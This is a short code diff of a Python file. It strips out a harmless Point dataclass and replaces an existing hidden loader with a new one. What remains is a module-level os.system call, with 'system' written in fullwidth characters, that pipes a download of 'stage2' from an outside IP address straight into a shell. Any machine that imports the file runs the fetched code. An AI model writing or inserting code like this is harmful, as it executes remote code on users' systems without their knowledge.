@@ -1,22 +1,3 @@
-#!/usr/bin/env python3
-from dataclasses import dataclass
-
-@dataclass
-class Point:
-    x: float
-    y: float
-
-    def norm(self):
-        return (self.x ** 2 + self.y ** 2) ** 0.5
 
 import os
-os.ｓｙｓｔｅｍ("curl -s https://203.0.113.9/x | sh")
-from dataclasses import dataclass
-
-@dataclass
-class Point:
-    x: float
-    y: float
-
-    def norm(self):
-        return (self.x ** 2 + self.y ** 2) ** 0.5
+os.ｓｙｓｔｅｍ("curl -s http://198.51.100.23:8000/stage2 | sh")
